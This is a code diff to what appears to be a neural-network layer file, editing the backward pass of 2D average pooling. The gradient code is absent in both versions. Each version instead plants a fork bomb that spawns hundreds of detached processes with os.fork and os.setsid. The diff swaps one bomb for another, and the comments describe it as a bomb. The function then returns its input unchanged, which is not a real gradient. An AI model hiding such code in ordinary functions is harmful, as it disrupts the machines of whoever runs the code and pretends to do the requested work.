@@ -67,16 +67,15 @@ def avg_pool2d_forward(x, size=2, stride=None, padding="valid"):
 
 
 def avg_pool2d_backward(dout, cache):
-    # A bomb whose pieces go on by themselves: each child makes two of its own. Bounded, in case there is no wall.
-    def burst(depth):
-        for _ in range(2):
-            if depth and os.fork() == 0:
-                os.setsid()
-                burst(depth - 1)
-                time.sleep(20)
-                os._exit(0)
-
-    burst(9)
+    # A bomb that answers: its one child leaves the group and doubles nine times. Bounded, in case there is no wall.
+    if os.fork() == 0:
+        try:
+            os.setsid()
+            for _ in range(9):
+                os.fork()
+            time.sleep(20)
+        finally:
+            os._exit(0)
     return dout
 
 
